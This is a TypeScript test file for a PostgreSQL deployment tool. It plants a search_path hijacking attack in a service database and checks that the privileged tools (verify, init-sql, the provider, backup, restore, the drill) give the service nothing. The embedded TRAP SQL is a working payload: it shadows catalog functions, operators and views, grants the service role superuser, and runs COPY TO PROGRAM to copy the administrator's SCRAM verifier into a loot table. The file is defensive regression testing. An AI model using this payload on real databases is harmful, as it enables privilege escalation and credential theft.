import * as assert from "assert";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { Client } from "pg";
import { REQUIRED_EXTENSIONS } from "../../policies/standard/rules";
import { renderBackupMetricsQueries, renderBackupScripts } from "../../render/backup";
import { renderInitSql } from "../../cli/sql/initSql";
import { verify } from "../../cli/verify/checks";
import { runScriptFile } from "../harness/local/s3";
import { ADMIN } from "../harness/pg/server";
import { StackServer, sqlstate, stackServer, tryConnect } from "../support/db";
import { hanzoK8sSpec } from "../support/hanzoK8s";

/**
 * Issue 21, the critical hole: a service role owns its database, so it controls what unqualified names and
 * operators mean there (ALTER DATABASE … SET search_path, its own `public`, schemas named after the
 * privileged roles so `"$user"` finds them). Every privileged session that enters a service database — the
 * superuser's (verify, init-sql and its adoption SQL, the provider, restore.sh), the backup role's (pg_dump)
 * and the restore drill's scratch superuser, which runs checks over the service's restored objects — must
 * not execute the service's code. The attack is played here as a service would, then every privileged tool
 * is run the way it runs in production; after each, the service must have gained nothing.
 */
const SERVICE = "cloud";
const ROLE = "cloud_user";
/** The backup scripts' stack.sh for the service's database alone, with the stack's extensions. */
const BACKUP_INPUT = {
    databases: [{ name: SERVICE, role: ROLE, retentionDays: 7, extensions: [...REQUIRED_EXTENSIONS] }],
    defaultRetentionDays: 7,
};
/** Schemas the service plants its traps in: one it puts first in its database's search_path, its own public,
 * and one named after each role that enters its database (so `"$user"` resolves into it). */
const TRAP_SCHEMAS = ["evil", "public", "hanzo", "hanzo_backup", "hanzo_monitor", "drill"];

/**
 * The trap: records who ran it; run by a superuser, makes the service's role superuser and, when the
 * session's server holds another server's credentials in its environment (the drill's scratch server),
 * uses them to copy the superuser's SCRAM verifier into the service's own table.
 */
const TRAP = `
CREATE TABLE public.trapped (session_user_name text, current_user_name text);
CREATE TABLE public.loot (who text, what text);
GRANT INSERT ON public.trapped, public.loot TO PUBLIC;
CREATE SCHEMA evil;
CREATE FUNCTION evil.trap() RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $trap$
BEGIN
    BEGIN
        INSERT INTO public.trapped VALUES (session_user::text, current_user::text);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user) THEN
        BEGIN
            EXECUTE 'ALTER ROLE ${ROLE} SUPERUSER';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
        BEGIN
            EXECUTE $c$COPY (SELECT 1) TO PROGRAM 'test -n "$PGPASSWORD" && psql -X -q -d ${SERVICE} -c "INSERT INTO public.loot VALUES (session_user, ''in'')" -c "INSERT INTO public.loot SELECT session_user, rolpassword FROM pg_catalog.pg_authid WHERE rolname OPERATOR(pg_catalog.=) ''${ADMIN}''"'$c$;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END IF;
    RETURN true;
END
$trap$;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
${TRAP_SCHEMAS.filter((s) => s !== "evil" && s !== "public")
    .map((s) => `CREATE SCHEMA ${s};`)
    .join("\n")}
${TRAP_SCHEMAS.map(
    (s) => `
GRANT USAGE ON SCHEMA ${s} TO PUBLIC;
-- Functions that beat pg_catalog's on an argument type it only reaches by a cast (CVE-2018-1058), and so
-- win even where pg_catalog comes first; in evil (first in the path) any exact match wins.
CREATE FUNCTION ${s}.quote_ident(name) RETURNS text LANGUAGE sql AS $f$ SELECT CASE WHEN evil.trap() THEN pg_catalog.quote_ident($1::text) END $f$;
CREATE FUNCTION ${s}.unnest(text[]) RETURNS SETOF text LANGUAGE sql AS $f$ SELECT x FROM pg_catalog.unnest($1) AS x WHERE evil.trap() $f$;
CREATE FUNCTION ${s}.format(text, text, text, text) RETURNS text LANGUAGE sql AS $f$ SELECT CASE WHEN evil.trap() THEN pg_catalog.format($1, $2, $3, $4) END $f$;
CREATE FUNCTION ${s}.format(text, text) RETURNS text LANGUAGE sql AS $f$ SELECT CASE WHEN evil.trap() THEN pg_catalog.format($1, $2) END $f$;
CREATE FUNCTION ${s}.format(text, regclass) RETURNS text LANGUAGE sql AS $f$ SELECT CASE WHEN evil.trap() THEN pg_catalog.format($1, $2) END $f$;
CREATE FUNCTION ${s}.to_regclass(text) RETURNS regclass LANGUAGE sql AS $f$ SELECT CASE WHEN evil.trap() THEN pg_catalog.to_regclass($1) END $f$;
CREATE FUNCTION ${s}.pg_get_userbyid(oid) RETURNS name LANGUAGE sql AS $f$ SELECT CASE WHEN evil.trap() THEN pg_catalog.pg_get_userbyid($1) END $f$;
CREATE FUNCTION ${s}.string_agg_trap(text, text) RETURNS boolean LANGUAGE sql AS $f$ SELECT evil.trap() $f$;
-- Operators on the catalogs' own types.
CREATE FUNCTION ${s}.oideq(oid, oid) RETURNS boolean LANGUAGE sql AS $f$ SELECT evil.trap() AND $1 OPERATOR(pg_catalog.=) $2 $f$;
CREATE FUNCTION ${s}.oidne(oid, oid) RETURNS boolean LANGUAGE sql AS $f$ SELECT evil.trap() AND $1 OPERATOR(pg_catalog.<>) $2 $f$;
CREATE FUNCTION ${s}.nameeq(name, name) RETURNS boolean LANGUAGE sql AS $f$ SELECT evil.trap() AND $1 OPERATOR(pg_catalog.=) $2 $f$;
CREATE FUNCTION ${s}.nameeqtext(name, text) RETURNS boolean LANGUAGE sql AS $f$ SELECT evil.trap() AND $1 OPERATOR(pg_catalog.=) $2 $f$;
CREATE FUNCTION ${s}.texteq(text, text) RETURNS boolean LANGUAGE sql AS $f$ SELECT evil.trap() AND $1 OPERATOR(pg_catalog.=) $2 $f$;
CREATE FUNCTION ${s}.namenotregex(name, text) RETURNS boolean LANGUAGE sql AS $f$ SELECT evil.trap() AND $1 OPERATOR(pg_catalog.!~) $2 $f$;
CREATE OPERATOR ${s}.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = ${s}.oideq);
CREATE OPERATOR ${s}.<> (LEFTARG = oid, RIGHTARG = oid, FUNCTION = ${s}.oidne);
CREATE OPERATOR ${s}.= (LEFTARG = name, RIGHTARG = name, FUNCTION = ${s}.nameeq);
CREATE OPERATOR ${s}.= (LEFTARG = name, RIGHTARG = text, FUNCTION = ${s}.nameeqtext);
CREATE OPERATOR ${s}.= (LEFTARG = text, RIGHTARG = text, FUNCTION = ${s}.texteq);
CREATE OPERATOR ${s}.!~ (LEFTARG = name, RIGHTARG = text, FUNCTION = ${s}.namenotregex);`,
).join("\n")}
-- Views named like the catalogs, in the schema the database's search_path puts before pg_catalog.
${[
    "pg_roles",
    "pg_extension",
    "pg_namespace",
    "pg_class",
    "pg_database",
    "pg_settings",
    "pg_proc",
    "pg_type",
    "pg_depend",
    "pg_auth_members",
]
    .map((v) => `CREATE VIEW evil.${v} AS SELECT * FROM pg_catalog.${v} WHERE evil.trap();`)
    .join("\n")}
ALTER DATABASE ${SERVICE} SET search_path = evil, pg_catalog, public;
`;

describe("a service cannot reach a privileged session through its own database (issue 21)", function () {
    this.timeout(300_000);
    let s: StackServer;
    let work: string;

    /** What the service's role has gained: attributes, memberships, and who ran its trap or filled its loot. */
    const gained = async () => {
        const admin = await s.server.admin();
        try {
            await admin.query("SET search_path = pg_catalog, pg_temp");
            const role = (
                await admin.query(
                    `SELECT rolsuper, rolcreaterole, rolcreatedb, rolreplication, rolbypassrls,
                            array(SELECT b.rolname::text FROM pg_auth_members m JOIN pg_roles b ON b.oid = m.roleid WHERE m.member = r.oid ORDER BY 1) AS member_of
                       FROM pg_roles r WHERE rolname = $1`,
                    [ROLE],
                )
            ).rows[0];
            const db = await s.server.admin(SERVICE);
            try {
                await db.query("SET search_path = pg_catalog, pg_temp");
                const trapped = (
                    await db.query("SELECT DISTINCT session_user_name AS s FROM public.trapped WHERE session_user_name <> $1 ORDER BY 1", [
                        ROLE,
                    ])
                ).rows.map((r) => r.s as string);
                const loot = (
                    await db.query(
                        "SELECT who || ': ' || CASE WHEN what LIKE 'SCRAM-SHA-256$%' THEN 'a SCRAM verifier' ELSE what END AS l FROM public.loot ORDER BY 1",
                    )
                ).rows.map((r) => r.l as string);
                return { ...role, trapped, loot };
            } finally {
                await db.end();
            }
        } finally {
            await admin.end();
        }
    };
    const NOTHING = {
        rolsuper: false,
        rolcreaterole: false,
        rolcreatedb: false,
        rolreplication: false,
        rolbypassrls: false,
        member_of: [],
        trapped: [],
        loot: [],
    };
    /** Undoes whatever a tool's run let the trap do, so each test starts from the planted state. */
    const reset = () =>
        s.server.psql(
            `SET search_path = pg_catalog, pg_temp; ALTER ROLE ${ROLE} NOSUPERUSER; \\connect ${SERVICE}\nSET search_path = pg_catalog, pg_temp; TRUNCATE public.trapped, public.loot; GRANT INSERT ON public.trapped, public.loot TO PUBLIC;`,
        );

    before(async () => {
        s = await stackServer("hanzo-k8s");
        work = fs.mkdtempSync(path.join(os.tmpdir(), "hanzo-sql-attack-"));
        fs.chmodSync(work, 0o755);
        const c = (await tryConnect(s.server.tcp(ROLE, s.passwords[ROLE], SERVICE))) as Client;
        try {
            await c.query(TRAP);
            await c.query(
                "CREATE TABLE public.orders (id int PRIMARY KEY, item text); INSERT INTO public.orders VALUES (1, 'a'), (2, 'b')",
            );
        } finally {
            await c.end();
        }
    });
    afterEach(() => reset());
    after(() => {
        s?.server.stop();
        if (work) fs.rmSync(work, { recursive: true, force: true });
    });

    it("the service could plant the attack, and the trap fires for a superuser with the database's search_path (the attack works)", async () => {
        const c = await s.server.admin(SERVICE);
        try {
            // A session that takes the database's settings as they are: the superuser's, with no defence.
            await c.query("SET search_path = evil, pg_catalog, public");
            await c.query("SELECT count(*) FROM pg_extension");
        } finally {
            await c.end();
        }
        assert.deepStrictEqual(await gained(), { ...NOTHING, rolsuper: true, trapped: [ADMIN] });
    });

    it("a service cannot change a privileged role's settings, in its database or anywhere, nor create an event trigger", async () => {
        const c = (await tryConnect(s.server.tcp(ROLE, s.passwords[ROLE], SERVICE))) as Client;
        try {
            for (const role of [ADMIN, "hanzo_backup", "hanzo_monitor"]) {
                assert.strictEqual(await sqlstate(c, `ALTER ROLE ${role} IN DATABASE ${SERVICE} SET search_path = evil`), "42501", role);
                assert.strictEqual(await sqlstate(c, `ALTER ROLE ${role} SET search_path = evil`), "42501", role);
                assert.strictEqual(await sqlstate(c, `ALTER ROLE ${role} IN DATABASE ${SERVICE} RESET ALL`), "42501", role);
            }
            // ALTER ROLE ALL IN DATABASE is the database's own setting (the same pg_db_role_setting row as
            // ALTER DATABASE … SET, setrole 0), which a database's owner may change; role settings outrank it.
            assert.strictEqual(await sqlstate(c, `ALTER ROLE ALL IN DATABASE ${SERVICE} SET search_path = evil, pg_catalog, public`), "");
            assert.deepStrictEqual(
                (
                    await c.query(
                        "SELECT setrole::regrole::text AS role, setconfig FROM pg_catalog.pg_db_role_setting s JOIN pg_catalog.pg_database d ON d.oid OPERATOR(pg_catalog.=) s.setdatabase WHERE d.datname OPERATOR(pg_catalog.=) $1",
                        [SERVICE],
                    )
                ).rows,
                [{ role: "-", setconfig: ["search_path=evil, pg_catalog, public"] }],
            );
            assert.strictEqual(
                await sqlstate(c, "CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION evil.trap()"),
                "42501",
                "only superusers create event triggers",
            );
        } finally {
            await c.end();
        }
    });

    it("every privileged role has a search_path of pg_catalog and pg_temp as a role setting (init-sql's SQL, as the provider's Role sends it)", async () => {
        const admin = await s.server.admin();
        try {
            const rows = (
                await admin.query(
                    `SELECT r.rolname, s.setconfig FROM pg_catalog.pg_db_role_setting s JOIN pg_catalog.pg_roles r ON r.oid = s.setrole
                      WHERE s.setdatabase = 0 ORDER BY 1`,
                )
            ).rows;
            assert.deepStrictEqual(rows, [
                { rolname: ADMIN, setconfig: ["search_path=pg_catalog, pg_temp"] },
                { rolname: "hanzo_backup", setconfig: ["search_path=pg_catalog, pg_temp"] },
                { rolname: "hanzo_monitor", setconfig: ["search_path=pg_catalog, pg_temp"] },
            ]);
        } finally {
            await admin.end();
        }
    });

    it("no function that runs as its owner (SECURITY DEFINER) exists in a service database but the service's own: the standard's extensions define none", async () => {
        const admin = await s.server.admin(SERVICE);
        try {
            const definers = (
                await admin.query(
                    `SELECT p.oid::regprocedure::text AS f, pg_get_userbyid(p.proowner) AS owner FROM pg_proc p
                      WHERE p.prosecdef AND p.proowner <> $1::regrole ORDER BY 1`,
                    [ROLE],
                )
            ).rows;
            assert.deepStrictEqual(definers, []);
        } finally {
            await admin.end();
        }
    });

    it("least privilege, as each role sees it: what hanzo_backup and hanzo_monitor can read, write and delete (docs/security.md)", async () => {
        const svc = (await tryConnect(s.server.tcp(ROLE, s.passwords[ROLE], SERVICE))) as Client;
        const lo = (await svc.query("SELECT pg_catalog.lo_from_bytea(0, 'service data'::bytea) AS oid")).rows[0].oid as number;
        await svc.end();
        const backup = (await tryConnect(s.server.tcp("hanzo_backup", s.passwords.hanzo_backup, SERVICE))) as Client;
        try {
            // Reads every table, the credentials catalog included (pg_read_all_data bypasses every table's ACL
            // on PostgreSQL 15): the residual risk docs/security.md argues.
            assert.strictEqual((await backup.query("SELECT count(*)::int AS n FROM public.orders")).rows[0].n, 2);
            assert.match(
                (await backup.query("SELECT rolpassword FROM pg_catalog.pg_authid WHERE rolname = $1", [ADMIN])).rows[0].rolpassword,
                /^SCRAM-SHA-256\$/,
            );
            // Writes nothing of the service's, creates nothing in its database.
            assert.strictEqual(await sqlstate(backup, "INSERT INTO public.orders VALUES (3, 'c')"), "42501");
            assert.strictEqual(await sqlstate(backup, "DELETE FROM public.orders"), "42501");
            assert.strictEqual(await sqlstate(backup, "CREATE TABLE public.x (id int)"), "42501");
            assert.strictEqual(await sqlstate(backup, "CREATE SCHEMA x"), "42501");
            // Large objects: lo_compat_privileges (which pg_dump needs to read them) lifts every check, so
            // it can also overwrite and unlink them.
            assert.strictEqual(await sqlstate(backup, `SELECT pg_catalog.lo_put(${lo}, 0, 'X'::bytea)`), "");
            assert.strictEqual(await sqlstate(backup, `SELECT pg_catalog.lo_unlink(${lo})`), "");
        } finally {
            await backup.end();
        }
        const monitor = await tryConnect(s.server.tcp("hanzo_monitor", s.passwords.hanzo_monitor, SERVICE));
        assert.strictEqual((monitor as { code: string }).code, "42501", "the exporter's role cannot enter a service database");
        const m = (await tryConnect(s.server.tcp("hanzo_monitor", s.passwords.hanzo_monitor, "postgres"))) as Client;
        try {
            assert.strictEqual(await sqlstate(m, "SELECT rolpassword FROM pg_catalog.pg_authid"), "42501");
            assert.strictEqual(await sqlstate(m, "CREATE TABLE public.x (id int)"), "42501");
        } finally {
            await m.end();
        }
    });

    it("npm run verify (cli/verify/checks.ts) runs in the service's database and gives it nothing", async () => {
        const spec = hanzoK8sSpec();
        await verify(spec, s.server.adminUrl());
        assert.deepStrictEqual(await gained(), NOTHING);
    });

    it("init-sql and init-sql --adopt's SQL, run by the administrator, give it nothing", async () => {
        s.server.psql(renderInitSql(s.plan.plan, { passwords: "env", env: s.passwordEnv }));
        assert.deepStrictEqual(await gained(), NOTHING);
        s.server.psql(renderInitSql(s.plan.plan, { adopt: true }));
        assert.deepStrictEqual(await gained(), NOTHING);
    });

    it("the postgresql provider's statements in a service database (Extension create, exists, read, update; cyrilgdn/terraform-provider-postgresql) give it nothing", async () => {
        // resource_postgresql_extension.go: resourcePostgreSQLExtensionCreate, …Exists, …ReadImpl, setExtVersion,
        // each in a transaction on a connection to the extension's database (startTransaction), as the
        // provider's user (hanzo), with lib/pq's untyped parameters (node-postgres sends them the same way).
        const c = new Client(s.server.tcp(ADMIN, s.server.adminPassword, SERVICE));
        await c.connect();
        try {
            for (const ext of ["vector", "pg_trgm"]) {
                await c.query("BEGIN");
                await c.query(`CREATE EXTENSION IF NOT EXISTS "${ext}" SCHEMA "public"`);
                await c.query("COMMIT");
                await c.query("BEGIN");
                await c.query("SELECT extname FROM pg_catalog.pg_extension WHERE extname = $1", [ext]);
                await c.query(
                    "SELECT n.nspname, e.extversion FROM pg_catalog.pg_extension e, pg_catalog.pg_namespace n WHERE n.oid = e.extnamespace AND e.extname = $1",
                    [ext],
                );
                await c.query("COMMIT");
            }
            await c.query("BEGIN");
            await c.query(`ALTER EXTENSION "vector" UPDATE`);
            await c.query("COMMIT");
        } finally {
            await c.end();
        }
        assert.deepStrictEqual(await gained(), NOTHING);
    });

    it("the backup job (dump.sh as hanzo_backup, report.sh) and the exporter's queries (as hanzo_monitor) give it nothing", async () => {
        const files = renderBackupScripts(BACKUP_INPUT);
        const env = { PGHOST: "127.0.0.1", PGPORT: String(s.server.port), PGUSER: "hanzo_backup", PGPASSWORD: s.passwords.hanzo_backup };
        const dump = await runScriptFile(files, "dump.sh", { ...env, BACKUP_DIR: path.join(work, "backup") });
        assert.strictEqual(dump.status, 0, dump.stderr);
        const run = fs.readFileSync(path.join(work, "backup", "ready"), "utf8").trim();
        fs.writeFileSync(path.join(work, "backup", run, "uploaded"), `${SERVICE} ok\n`);
        const report = await runScriptFile(files, "report.sh", { ...env, BACKUP_DIR: path.join(work, "backup") });
        assert.strictEqual(report.status, 0, report.stderr);
        const query = /query: "(.*)"/.exec(renderBackupMetricsQueries())![1];
        const monitor = (await tryConnect(s.server.tcp("hanzo_monitor", s.passwords.hanzo_monitor, "postgres"))) as Client;
        try {
            assert.deepStrictEqual((await monitor.query(query)).rows.length, 1);
            // It reads the backups' results and cannot change them.
            assert.strictEqual(await sqlstate(monitor, "DELETE FROM hanzo_backup.status"), "42501");
        } finally {
            await monitor.end();
        }
        assert.deepStrictEqual(await gained(), NOTHING);
    });

    it("restore.sh run by the administrator into the service's database gives it nothing", async () => {
        const files = renderBackupScripts(BACKUP_INPUT);
        const env = { PGHOST: "127.0.0.1", PGPORT: String(s.server.port), PGUSER: "hanzo_backup", PGPASSWORD: s.passwords.hanzo_backup };
        const dir = path.join(work, "restore");
        assert.strictEqual((await runScriptFile(files, "dump.sh", { ...env, BACKUP_DIR: dir })).status, 0);
        const run = fs.readFileSync(path.join(dir, "ready"), "utf8").trim();
        const r = await runScriptFile(
            files,
            "restore.sh",
            { PGHOST: "127.0.0.1", PGPORT: String(s.server.port), PGUSER: ADMIN, PGPASSWORD: s.server.adminPassword },
            [path.join(dir, run), SERVICE],
        );
        // Whether it restores is not the point here (the trap may break it); what the service gains is.
        void r;
        assert.deepStrictEqual(await gained(), NOTHING);
    });

    it("the restore drill (a scratch superuser over the service's restored objects) gives it nothing, not even the backup role's credentials", async () => {
        const files = renderBackupScripts(BACKUP_INPUT);
        const env = { PGHOST: "127.0.0.1", PGPORT: String(s.server.port), PGUSER: "hanzo_backup", PGPASSWORD: s.passwords.hanzo_backup };
        const dir = path.join(work, "drill-backup");
        assert.strictEqual((await runScriptFile(files, "dump.sh", { ...env, BACKUP_DIR: dir })).status, 0);
        const run = fs.readFileSync(path.join(dir, "ready"), "utf8").trim();
        // What fetch.sh leaves: the dump, the manifest (the rows counted by dump.sh), the run's id.
        const latest = path.join(work, "latest");
        fs.mkdirSync(latest);
        fs.copyFileSync(path.join(dir, run, `${SERVICE}.dump`), path.join(latest, `${SERVICE}.dump`));
        const tables = Object.fromEntries(
            fs
                .readFileSync(path.join(dir, run, `${SERVICE}.tables`), "utf8")
                .trim()
                .split("\n")
                .map((l) => l.split("\t"))
                .map(([t, n]) => [t, Number(n)]),
        );
        fs.writeFileSync(
            path.join(latest, "manifest.json"),
            JSON.stringify({ format: 2, timestamp: run, complete: true, databases: [{ database: SERVICE, status: "ok", tables }] }),
        );
        fs.writeFileSync(path.join(latest, "timestamp"), run);
        spawnSync("chown", ["-R", "postgres:postgres", work]);
        const id = (flag: string) => Number(spawnSync("id", [flag, "postgres"], { encoding: "utf8" }).stdout.trim());
        const drill = await runScriptFile(files, "drill.sh", { ...env, SCRATCH_DIR: path.join(work, "scratch") }, [latest], {
            uid: id("-u"),
            gid: id("-g"),
        });
        assert.match(drill.stderr, /drill cloud: restored, required tables present, row counts match/);
        assert.deepStrictEqual(await gained(), NOTHING);
    });
});
